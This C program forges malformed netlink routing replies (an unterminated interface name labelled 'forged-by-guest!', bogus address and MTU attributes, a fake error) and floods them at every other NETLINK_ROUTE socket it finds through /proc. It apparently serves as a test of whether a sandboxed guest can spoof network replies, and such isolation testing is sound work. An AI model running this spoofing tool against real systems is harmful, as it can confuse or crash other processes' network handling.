// Floods every routing netlink socket of its network but its own with forged answers, until it is killed. Each
// attempt at a socket is a line on standard output: taken, or the error's number.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>

static char answer[4096];
static size_t length;

static struct nlmsghdr* begin(int type, const void* header, size_t size) {
    struct nlmsghdr* message = (void*)(answer + length);
    message->nlmsg_len = NLMSG_LENGTH(size);
    message->nlmsg_type = type;
    message->nlmsg_flags = NLM_F_MULTI;
    memcpy(NLMSG_DATA(message), header, size);
    return message;
}

// claimed: the length the attribute says it has.
static void put(struct nlmsghdr* message, int type, const void* data, size_t size, size_t claimed) {
    struct rtattr* attribute = (void*)((char*)message + NLMSG_ALIGN(message->nlmsg_len));
    attribute->rta_type = type;
    attribute->rta_len = RTA_LENGTH(claimed);
    memcpy(RTA_DATA(attribute), data, size);
    message->nlmsg_len = NLMSG_ALIGN(message->nlmsg_len) + RTA_SPACE(size);
}

static void end(const struct nlmsghdr* message) {
    length += NLMSG_ALIGN(message->nlmsg_len);
}

static void compose(void) {
    const struct ifinfomsg link = {.ifi_index = 666, .ifi_flags = IFF_UP};
    struct nlmsghdr* message = begin(RTM_NEWLINK, &link, sizeof link);
    put(message, IFLA_IFNAME, "forged-by-guest!", 16, 16); // without its end
    put(message, IFLA_MTU, "1", 1, 1);
    end(message);
    const struct ifaddrmsg address = {.ifa_family = AF_INET6, .ifa_prefixlen = 64, .ifa_index = 1};
    message = begin(RTM_NEWADDR, &address, sizeof address);
    put(message, IFA_ADDRESS, "1", 1, 1);
    end(message);
    const struct nlmsgerr error = {.error = -ENOTTY};
    message = begin(NLMSG_ERROR, &error, sizeof error);
    end(message);
    message = begin(NLMSG_DONE, &(int){0}, sizeof(int));
    end(message);
}

int main(void) {
    struct sockaddr_nl own = {.nl_family = AF_NETLINK};
    socklen_t size = sizeof own;
    const int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
    if (fd < 0 || bind(fd, (void*)&own, sizeof own) != 0 || getsockname(fd, (void*)&own, &size) != 0)
        return 1;
    compose();
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        FILE* const sockets = fopen("/proc/self/net/netlink", "re");
        if (sockets == NULL)
            return 2;
        char line[256];
        while (fgets(line, sizeof line, sockets) != NULL) {
            int protocol = 0;
            unsigned port = 0;
            if (sscanf(line, "%*s %d %u", &protocol, &port) != 2 || protocol != NETLINK_ROUTE || port == 0 ||
                port == own.nl_pid)
                continue;
            struct sockaddr_nl other = {.nl_family = AF_NETLINK, .nl_pid = port};
            if (sendto(fd, answer, length, MSG_DONTWAIT, (void*)&other, sizeof other) >= 0)
                printf("taken\n");
            else if (errno != EAGAIN)
                printf("%d\n", errno);
            fflush(stdout);
        }
        fclose(sockets);
    }
}
